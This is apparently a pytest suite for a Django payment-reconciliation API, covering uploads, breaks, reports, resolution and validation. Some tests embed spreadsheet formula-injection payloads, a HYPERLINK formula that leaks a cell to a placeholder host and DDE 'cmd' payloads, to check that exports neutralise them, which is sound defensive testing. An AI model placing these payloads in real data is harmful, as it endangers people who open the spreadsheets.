"""The reconciliation API: upload (multipart), runs, summary, breaks, lines, rejects, the CSV
report, resolution; one client never sees another's."""

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import TestCase
from rest_framework.test import APIClient

from core.services import api_client_create
from payments.models import PaymentStatus
from reconciliation.models import ReconciliationRun, StatementUpload

from .builders import Preamble, Row, charge_row, eat, g2_csv, make_payment, pay_row

pytestmark = pytest.mark.django_db


def upload(api, data, name="statement.csv", **extra):
    """POST the statement; the worker's task (eager in unit tests) runs once the upload has
    committed, as after a real request."""
    with TestCase.captureOnCommitCallbacks(execute=True):
        return api.post(
            "/reconciliation/statements/",
            {"file": SimpleUploadedFile(name, data, content_type="text/csv"), **extra},
            format="multipart",
        )


def imported(api, data, name="statement.csv", **extra):
    """The run of an uploaded statement once the worker is done with it."""
    response = upload(api, data, name, **extra)
    assert response.status_code == 202, response.content
    run = api.get(f"/reconciliation/runs/{response.json()['run']['id']}/").json()
    assert run["state"] == "completed", run
    return run


def statement(*rows):
    return g2_csv(list(rows), preamble=Preamble())


@pytest.fixture
def shop(api_key):
    return api_key.client


def test_uploading_a_statement_reconciles_it(api, shop):
    paid = make_payment(amount=100, receipt="TK5XA1BC2D", client=shop)

    response = upload(
        api,
        statement(
            pay_row("TK5XA1BC2D", 100, "05-11-2025 10:00:00"),
            pay_row("TK5XA1BC2E", 5, "05-11-2025 10:01:00"),
        ),
    )

    # Accepted and queued: the request reads nothing; a worker does (here, eagerly, once the
    # upload committed).
    assert response.status_code == 202, response.content
    body = response.json()
    assert body["already_imported"] is False
    assert body["run"]["state"] == "queued"
    assert body["run"]["summary"] == {}
    assert response["Location"] == f"/reconciliation/runs/{body['run']['id']}/"
    run = api.get(response["Location"]).json()
    assert run["state"] == "completed"
    assert run["error"] == ""
    assert run["rows_read"] >= 9  # the preamble, the header and the two rows
    assert run["finished_at"] is not None
    assert run["statement"]["file_name"] == "statement.csv"
    assert run["statement"]["short_code"] == "4125223"
    assert run["statement"]["line_count"] == 2
    assert run["summary"]["classes"]["matched"]["count"] == 1
    assert run["summary"]["classes"]["unknown_payment"]["count"] == 1
    assert run["summary"]["bridge"]["residual"] == "0.00"
    assert paid.pk  # matched, not changed


def test_uploading_the_same_file_again_returns_the_first_import(api):
    data = statement(pay_row("TK5XA1BC2D", 100, "05-11-2025 10:00:00"))
    first = upload(api, data).json()

    again = upload(api, data, name="again.csv")

    assert again.status_code == 200
    assert again.json()["already_imported"] is True
    assert again.json()["run"]["id"] == first["run"]["id"]
    assert again.json()["run"]["state"] == "completed"
    assert ReconciliationRun.objects.count() == 1


def test_a_failed_upload_sent_again_is_queued_again(api, settings):
    data = statement(*[pay_row(f"TK5XA{n:05d}", 5, "05-11-2025 10:01:00") for n in range(20)])
    settings.RECONCILIATION_MAX_ROWS = 5
    first = upload(api, data)
    run_id = first.json()["run"]["id"]
    assert api.get(f"/reconciliation/runs/{run_id}/").json()["state"] == "failed"

    settings.RECONCILIATION_MAX_ROWS = 1000
    again = upload(api, data)

    assert again.status_code == 202
    assert again.json()["already_imported"] is True
    assert again.json()["run"]["id"] == run_id
    run = api.get(f"/reconciliation/runs/{run_id}/").json()
    assert run["state"] == "completed" and run["statement"]["line_count"] == 20
    assert StatementUpload.objects.count() == 0


def test_a_file_that_is_not_a_statement_is_accepted_and_its_run_fails_saying_why(api):
    response = upload(api, b"hello,world\n1,2\n")

    assert response.status_code == 202
    run = api.get(response["Location"]).json()
    assert run["state"] == "failed"
    assert "no header row with 'Receipt No.'" in run["error"]
    assert run["finished_at"] is not None
    assert run["summary"] == {}
    # The stored file is not kept once the run is over.
    assert StatementUpload.objects.count() == 0


@pytest.mark.parametrize(
    ("data", "code", "message"),
    [
        (b"", "validation_error", "empty"),
        (b"<html><table><tr><td>Receipt</td></tr></table></html>", "unreadable_statement", "HTML"),
    ],
)
def test_an_empty_or_html_file_is_a_400_in_the_error_shape(api, data, code, message):
    response = upload(api, data, "statement.xls")

    assert response.status_code == 400
    error = response.json()["error"]
    assert error["code"] == code
    assert message in str(error["fields"]["file"])
    assert ReconciliationRun.objects.count() == 0


def test_the_file_field_is_required(api):
    response = api.post("/reconciliation/statements/", {}, format="multipart")

    assert response.status_code == 400
    assert response.json()["error"]["fields"]["file"]


def test_an_api_key_is_required():
    response = APIClient().get("/reconciliation/runs/")

    assert response.status_code in (401, 403)
    assert "error" in response.json()


def test_a_client_sees_only_its_own_runs_and_breaks(api):
    run_id = imported(api, statement(pay_row("TK5XA1BC2E", 5, "05-11-2025 10:01:00")))["id"]
    other = APIClient()
    other.credentials(
        HTTP_AUTHORIZATION=f"Bearer {api_client_create(name='other', scopes=['reconciliation']).key}"
    )

    assert other.get("/reconciliation/runs/").json()["results"] == []
    assert other.get(f"/reconciliation/runs/{run_id}/").status_code == 404
    break_id = api.get(f"/reconciliation/runs/{run_id}/breaks/").json()["results"][0]["id"]
    assert other.get(f"/reconciliation/breaks/{break_id}/").status_code == 404
    assert api.get(f"/reconciliation/breaks/{break_id}/").status_code == 200


def test_runs_summary_breaks_lines_and_rejects_can_be_read(api, shop):
    make_payment(amount=100, receipt="TK5XA1BC2D", client=shop)
    rows = [
        pay_row("TK5XA1BC2D", 100, "05-11-2025 10:00:00"),
        pay_row("TK5XA1BC2E", 5, "05-11-2025 10:01:00"),
        Row(receipt="TK5XA1BC2F", completed="05-11-2025 10:02:00", paid_in="five"),
    ]
    run_id = imported(api, statement(*rows))["id"]

    runs = api.get("/reconciliation/runs/").json()
    assert [r["id"] for r in runs["results"]] == [run_id]
    summary = api.get(f"/reconciliation/runs/{run_id}/summary/").json()
    assert summary["lines"] == 2 and summary["rejects"] == 1
    breaks = api.get(f"/reconciliation/runs/{run_id}/breaks/", {"kind": "unknown_payment"}).json()
    assert [b["line"]["receipt_number"] for b in breaks["results"]] == ["TK5XA1BC2E"]
    # The statement's own time, in East Africa time like every other time the API gives.
    assert breaks["results"][0]["line"]["completed_at"] == "2025-11-05T10:01:00+03:00"
    assert breaks["results"][0]["created_at"].endswith("+03:00")
    assert breaks["results"][0]["bridge_amount"] == "5.00"
    assert (
        api.get(f"/reconciliation/runs/{run_id}/breaks/", {"kind": "duplicate"}).json()["results"]
        == []
    )
    lines = api.get(f"/reconciliation/runs/{run_id}/lines/").json()["results"]
    assert [(line["line_no"], line["result"], line["amount"]) for line in lines] == [
        (8, "matched", "100.00"),
        (9, "unknown_payment", "5.00"),
    ]
    matched = api.get(f"/reconciliation/runs/{run_id}/lines/", {"result": "matched"}).json()
    assert len(matched["results"]) == 1
    rejects = api.get(f"/reconciliation/runs/{run_id}/rejects/").json()["results"]
    assert rejects[0]["row_number"] == 10 and "not an amount" in rejects[0]["reason"]


def test_breaks_of_every_run_can_be_listed_with_filters(api):
    run_id = imported(api, statement(pay_row("TK5XA1BC2E", 5, "05-11-2025 10:01:00")))["id"]

    everything = api.get("/reconciliation/breaks/").json()["results"]
    unknown = api.get(
        "/reconciliation/breaks/", {"kind": "unknown_payment", "status": "open", "run": run_id}
    )

    assert len(everything) == 1
    assert [b["kind"] for b in unknown.json()["results"]] == ["unknown_payment"]
    assert api.get("/reconciliation/breaks/", {"status": "closed"}).status_code == 400


def test_bad_filters_are_400s_naming_the_field(api):
    run_id = imported(api, statement(pay_row("TK5XA1BC2E", 5, "05-11-2025 10:01:00")))["id"]

    for path, query in [
        (f"/reconciliation/runs/{run_id}/breaks/", {"kind": "nonsense"}),
        # Classes that are never breaks are not break kinds.
        (f"/reconciliation/runs/{run_id}/breaks/", {"kind": "matched"}),
        ("/reconciliation/breaks/", {"kind": "charge"}),
        ("/reconciliation/breaks/", {"run": "1_0"}),
        ("/reconciliation/breaks/", {"run": "\u0661"}),
        ("/reconciliation/breaks/", {"run": "--1"}),
        ("/reconciliation/breaks/", {"status": "closed"}),
    ]:
        response = api.get(path, query)

        assert response.status_code == 400, (path, query)
        assert set(response.json()["error"]["fields"]) == set(query), (path, query)


def test_the_csv_report_has_the_summary_the_bridge_and_every_line(api, shop):
    make_payment(amount=100, receipt="TK5XA1BC2D", client=shop)
    make_payment(amount=300, receipt="TK5XA1BC2Z", client=shop)  # missing from the statement
    rows = [
        pay_row("TK5XA1BC2D", 100, "05-11-2025 10:00:00"),
        pay_row("TK5XA1BC2E", 5, "05-11-2025 10:01:00"),
    ]
    run_id = imported(api, statement(*rows))["id"]

    response = api.get(f"/reconciliation/runs/{run_id}/report/")

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    table = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    sections = [row["section"] for row in table]
    assert sections.count("line") == 2 and sections.count("payment") == 1
    bridge = {row["class"]: row["statement_amount"] for row in table if row["section"] == "bridge"}
    assert bridge["residual"] == "0.00"
    lines = {row["receipt_number"]: row for row in table if row["section"] == "line"}
    assert lines["TK5XA1BC2D"]["class"] == "matched"
    assert lines["TK5XA1BC2E"]["class"] == "unknown_payment"
    assert lines["TK5XA1BC2E"]["break_status"] == "open"
    assert lines["TK5XA1BC2D"]["completed_at_eat"] == "05-11-2025 10:00:00"
    (payment_row,) = [row for row in table if row["section"] == "payment"]
    assert payment_row["class"] == "missing_from_statement"
    assert payment_row["our_amount"] == "300.00"


def report_table(api, run_id, **headers):
    response = api.get(f"/reconciliation/runs/{run_id}/report/", **headers)
    assert response.status_code == 200, response
    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_the_report_is_served_to_a_client_asking_for_csv_and_refused_to_one_asking_json(api):
    run_id = imported(api, statement(pay_row("TK5XA1BC2E", 5, "05-11-2025 10:01:00")))["id"]

    assert report_table(api, run_id, HTTP_ACCEPT="text/csv")
    assert report_table(api, run_id, HTTP_ACCEPT="*/*")
    json_only = api.get(f"/reconciliation/runs/{run_id}/report/", HTTP_ACCEPT="application/json")
    assert json_only.status_code == 406
    assert json_only.json()["error"]["code"] in ("not_acceptable", "not_acceptable_error")
    # Errors keep the API's one shape, whatever was asked.
    missing = api.get("/reconciliation/runs/999999/report/", HTTP_ACCEPT="text/csv")
    assert missing.status_code == 404 and missing.json()["error"]["code"] == "not_found"


def test_the_bridge_reads_top_to_bottom_in_the_report_and_the_api(api, shop):
    make_payment(amount=100, receipt="TK5XA1BC2D", client=shop)
    rows = [
        pay_row("TK5XA1BC2D", 100, "05-11-2025 10:00:00"),
        charge_row("TK5XA1BC2D", 5, "05-11-2025 10:00:00"),
    ]
    run = imported(api, statement(*rows))
    run_id = run["id"]
    order = ["statement_total", "our_total", "difference", "explained_total", "residual"]

    table = report_table(api, run_id)
    assert [row["class"] for row in table if row["section"] == "bridge"] == order
    summary_classes = [row["class"] for row in table if row["section"] == "summary"]
    assert summary_classes == sorted(summary_classes)
    for summary in (
        run["summary"],
        api.get(f"/reconciliation/runs/{run_id}/summary/").json(),
        api.get(f"/reconciliation/runs/{run_id}/").json()["summary"],
    ):
        assert [key for key in summary["bridge"] if key != "explained"] == order
        assert list(summary["classes"]) == sorted(summary["classes"])
        assert list(summary["classes"]["matched"]) == ["count", "statement_amount", "our_amount"]


def test_text_a_spreadsheet_would_run_as_a_formula_is_written_as_text(api):
    rows = [
        pay_row(
            "TK5XA1BC2E",
            5,
            "05-11-2025 10:01:00",
            account="=1+2",
            details='=HYPERLINK("http://example.invalid/?x="&A1,"click")',
            party="@SUM(1) - X",
        ),
        pay_row("TK5XA1BC2F", 6, "05-11-2025 10:02:00", account="\t=1+2"),
        pay_row("TK5XA1BC2G", 7, "05-11-2025 10:03:00", account="-2+3"),
    ]
    run_id = imported(api, statement(*rows))["id"]
    brk = api.get(f"/reconciliation/runs/{run_id}/breaks/").json()["results"][0]
    api.post(
        f"/reconciliation/breaks/{brk['id']}/resolve/",
        {"action": "accept", "reason": "+cmd|' /C calc'!A0"},
        format="json",
    )

    lines = {
        row["receipt_number"]: row for row in report_table(api, run_id) if row["section"] == "line"
    }

    first = lines["TK5XA1BC2E"]
    assert first["account_reference"] == "'=1+2"
    assert first["details"].startswith("'=HYPERLINK(")
    assert first["other_party"] == "'@SUM(1) - X"
    assert lines["TK5XA1BC2F"]["account_reference"] == "'\t=1+2"
    assert lines["TK5XA1BC2G"]["account_reference"] == "'-2+3"
    assert lines[brk["line"]["receipt_number"]]["resolution_reason"].startswith("'+cmd")
    # Amounts are numbers, written as they are (a withdrawal stays negative).
    assert first["paid_in"] == "5.00"


def test_a_line_a_person_credited_shows_the_payment_in_the_report(api, shop):
    pending = make_payment(
        amount=900, status=PaymentStatus.PENDING, client=shop, when=eat("01-11-2025 08:00:00")
    )
    run_id = imported(api, statement(pay_row("RCPT000009", 900, "05-11-2025 10:00:00")))["id"]
    brk = api.get(f"/reconciliation/runs/{run_id}/breaks/", {"kind": "unknown_payment"}).json()[
        "results"
    ][0]
    resolved = api.post(
        f"/reconciliation/breaks/{brk['id']}/resolve/",
        {"action": "match", "reason": "paid", "payment_id": str(pending.pk)},
        format="json",
    )
    assert resolved.status_code == 200, resolved.content

    line = next(
        row
        for row in report_table(api, run_id)
        if row["section"] == "line" and row["receipt_number"] == "RCPT000009"
    )

    assert line["resolution"] == "credited"
    assert (line["payment_id"], line["payment_status"], line["our_amount"]) == (
        str(pending.pk),
        "SUCCESS",
        "900.00",
    )


def test_a_break_is_resolved_through_the_api_with_a_reason(api, shop):
    failed = make_payment(amount=300, status=PaymentStatus.FAILED, client=shop)
    uploaded = imported(api, statement(pay_row("TK5XA1BC2D", 300, "05-11-2025 10:00:30")))
    run_id = uploaded["id"]
    assert uploaded["open_breaks"] == 1
    (brk,) = api.get(f"/reconciliation/runs/{run_id}/breaks/").json()["results"]
    assert brk["kind"] == "not_success" and brk["payment_status"] == "FAILED"

    missing_reason = api.post(
        f"/reconciliation/breaks/{brk['id']}/resolve/", {"action": "match"}, format="json"
    )
    assert missing_reason.status_code == 400

    response = api.post(
        f"/reconciliation/breaks/{brk['id']}/resolve/",
        {"action": "match", "reason": "the statement shows it paid"},
        format="json",
    )

    assert response.status_code == 200, response.content
    body = response.json()
    assert (body["status"], body["resolution"], body["resolved_by"]) == (
        "resolved",
        "credited",
        "api:shop",
    )
    failed.refresh_from_db()
    assert failed.status == PaymentStatus.SUCCESS
    # The run now has no open break; its summary still says what the import found.
    run = api.get(f"/reconciliation/runs/{run_id}/").json()
    assert (run["open_breaks"], run["summary"]["breaks"]) == (0, 1)
    assert [r["open_breaks"] for r in api.get("/reconciliation/runs/").json()["results"]] == [0]
    events = api.get(f"/reconciliation/breaks/{brk['id']}/events/").json()
    assert [(e["action"], e["actor"]) for e in events] == [("resolved:credited", "api:shop")]
    again = api.post(
        f"/reconciliation/breaks/{brk['id']}/resolve/",
        {"action": "accept", "reason": "x"},
        format="json",
    )
    assert again.status_code == 409
    assert again.json()["error"]["code"] == "already_resolved"


@pytest.mark.parametrize(
    ("body", "field"),
    [
        ({"action": "accept", "reason": "ok", "payment": "x"}, "payment"),  # misspelt
        ({"action": "accept", "reason": 123}, "reason"),
        ({"action": "accept", "reason": "   "}, "reason"),
    ],
)
def test_a_resolve_body_with_an_unknown_field_or_a_reason_that_is_not_text_is_a_400(
    api, body, field
):
    run_id = imported(api, statement(pay_row("TK5XA1BC2E", 5, "05-11-2025 10:01:00")))["id"]
    (brk,) = api.get(f"/reconciliation/runs/{run_id}/breaks/").json()["results"]

    response = api.post(f"/reconciliation/breaks/{brk['id']}/resolve/", body, format="json")

    assert response.status_code == 400, response.content
    assert list(response.json()["error"]["fields"]) == [field]
    assert api.get(f"/reconciliation/breaks/{brk['id']}/").json()["status"] == "open"


def test_a_resolution_that_does_not_fit_the_break_is_a_422(api):
    run_id = imported(api, statement(pay_row("TK5XA1BC2E", 5, "05-11-2025 10:01:00")))["id"]
    (brk,) = api.get(f"/reconciliation/runs/{run_id}/breaks/").json()["results"]

    response = api.post(
        f"/reconciliation/breaks/{brk['id']}/resolve/",
        {"action": "match", "reason": "r"},
        format="json",
    )

    assert response.status_code == 422
    assert response.json()["error"]["code"] == "payment_required"


def test_an_upload_over_the_limit_is_refused(api, settings):
    settings.RECONCILIATION_MAX_UPLOAD_BYTES = 100

    response = upload(api, statement(pay_row("TK5XA1BC2E", 5, "05-11-2025 10:01:00")))

    assert response.status_code == 413
    assert response.json()["error"]["code"] == "payload_too_large"


@pytest.mark.parametrize("page_size", ["0", "-1", "abc", "\u00b2", "\u0661", "1_0", "501"])
def test_an_unreadable_page_size_is_a_400_naming_it(api, page_size):
    for path in ["/reconciliation/runs/", "/reconciliation/breaks/"]:
        response = api.get(path, {"page_size": page_size})

        assert response.status_code == 400, (path, page_size, response.content)
        assert "page_size" in response.json()["error"]["fields"]


def test_a_file_name_with_a_nul_character_is_taken_without_it(api):
    response = upload(api, statement(pay_row("TK5XA1BC2E", 5, "05-11-2025 10:01:00")), "a\x00b.csv")

    assert response.status_code == 202, response.content
    assert "\x00" not in response.json()["run"]["statement"]["file_name"]


def test_a_statement_larger_than_other_api_bodies_is_taken(api, settings):
    # Other API bodies are capped by DJANGO_MAX_BODY_BYTES; a statement only by its own limit.
    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 2048
    rows = [pay_row(f"TK5XA{n:05d}", 5, "05-11-2025 10:01:00") for n in range(60)]
    data = statement(*rows)
    assert len(data) > 2048

    response = upload(api, data)

    assert response.status_code == 202, response.content
    assert api.get(response["Location"]).json()["statement"]["line_count"] == 60


def test_a_body_far_over_the_statement_limit_is_refused_before_it_is_read(api, settings):
    settings.RECONCILIATION_MAX_UPLOAD_BYTES = 1024
    rows = [pay_row(f"TK5XA{n:05d}", 5, "05-11-2025 10:01:00") for n in range(1200)]
    data = statement(*rows)
    assert len(data) > 1024 + 64 * 1024

    response = upload(api, data)

    assert response.status_code == 413
    assert response.json()["error"]["code"] == "payload_too_large"
    # The middleware's answer (it reads nothing), not the view's after reading the file.
    assert response.json()["error"]["message"].startswith("Request body over")


def test_ids_too_long_for_an_integer_match_nothing_or_are_refused(api):
    many = "1" * 5000

    assert api.get("/reconciliation/breaks/", {"run": many}).json()["results"] == []
    response = api.get("/reconciliation/breaks/", {"page_size": many})
    assert response.status_code == 400 and "page_size" in response.json()["error"]["fields"]


def test_the_schema_documents_the_reconciliation_api(api):
    response = APIClient().get("/api/schema/")

    assert response.status_code == 200
    text = response.content.decode()
    assert "/reconciliation/statements/" in text
    assert "/reconciliation/breaks/{id}/resolve/" in text


def test_the_schema_documents_the_upload_as_accepted_and_the_runs_state(api):
    schema = APIClient().get("/api/schema/", HTTP_ACCEPT="application/vnd.oai.openapi+json")
    document = schema.json()

    upload_responses = document["paths"]["/reconciliation/statements/"]["post"]["responses"]
    assert {"202", "200", "400", "413", "415"} <= set(upload_responses)
    assert "201" not in upload_responses
    run = document["components"]["schemas"]["Run"]["properties"]
    assert {"state", "rows_read", "error"} <= set(run)
    state = run["state"]
    if "$ref" in state or "allOf" in state:
        ref = (state.get("allOf") or [state])[0]["$ref"].rsplit("/", 1)[-1]
        state = document["components"]["schemas"][ref]
    assert state["enum"] == ["queued", "parsing", "matching", "completed", "failed"]
    assert "finished_at" in run and run["finished_at"].get("nullable") is True


@pytest.mark.parametrize("value", ["-1", "ten", "1.5", str(7 * 86400 + 1)])
def test_a_bad_time_window_is_a_400_naming_it(api, value):
    response = upload(
        api,
        statement(pay_row("TK5XA1BC2E", 5, "05-11-2025 10:01:00")),
        **{"time_window_seconds": value},
    )

    assert response.status_code == 400
    assert "time_window_seconds" in response.json()["error"]["fields"]
    assert ReconciliationRun.objects.count() == 0


@pytest.mark.parametrize("value", ["0", "1", "yes", "on", "TRUE "])
def test_auto_resolve_is_true_or_false_not_a_guess(api, value):
    response = upload(
        api, statement(pay_row("TK5XA1BC2E", 5, "05-11-2025 10:01:00")), **{"auto_resolve": value}
    )

    assert response.status_code == 400
    assert "auto_resolve" in response.json()["error"]["fields"]
    assert ReconciliationRun.objects.count() == 0


def test_auto_resolve_false_is_kept_on_the_run(api):
    run = imported(
        api, statement(pay_row("TK5XA1BC2E", 5, "05-11-2025 10:01:00")), auto_resolve="false"
    )

    assert run["auto_resolve"] is False


def test_the_breaks_export_as_csv_and_xlsx_with_the_lists_filters(api):
    from openpyxl import load_workbook

    rows = [
        pay_row("TK5XA1BC2E", 5, "05-11-2025 10:01:00", party="=cmd|' /C calc'!A0"),
        pay_row("TK5XA1BC2F", 7, "05-11-2025 10:02:00"),
    ]
    run_id = imported(api, statement(*rows))["id"]
    response = api.get("/reconciliation/breaks/export.csv", {"run": run_id})
    assert response.status_code == 200 and response["Content-Type"] == "text/csv"
    text = b"".join(response.streaming_content).decode("utf-8").lstrip("\ufeff")
    exported = {row["Statement receipt"]: row for row in csv.DictReader(io.StringIO(text))}
    assert set(exported) == {"TK5XA1BC2E", "TK5XA1BC2F"}
    first = exported["TK5XA1BC2E"]
    assert first["Kind"] == "unknown_payment" and first["Status"] == "open"
    assert first["Statement amount (KES)"] == "5.00"
    assert first["Statement time (EAT)"] == "2025-11-05 10:01:00"
    assert first["Statement other party"].startswith("'=cmd")
    assert first["Reconciliation run"] == str(run_id)

    xlsx = api.get("/reconciliation/breaks/export.xlsx", {"run": run_id})
    sheet = load_workbook(io.BytesIO(b"".join(xlsx.streaming_content))).active
    headings = [cell.value for cell in sheet[1]]
    amounts = sorted(
        dict(zip(headings, [c.value for c in row], strict=True))["Statement amount (KES)"]
        for row in sheet.iter_rows(min_row=2)
    )
    assert amounts == [5, 7]
    assert api.get("/reconciliation/breaks/export.csv", {"status": "closed"}).status_code == 400
    other = APIClient()
    other.credentials(
        HTTP_AUTHORIZATION=f"Bearer {api_client_create(name='o', scopes=['reconciliation']).key}"
    )
    text = b"".join(other.get("/reconciliation/breaks/export.csv").streaming_content).decode()
    assert len(list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))) == 0
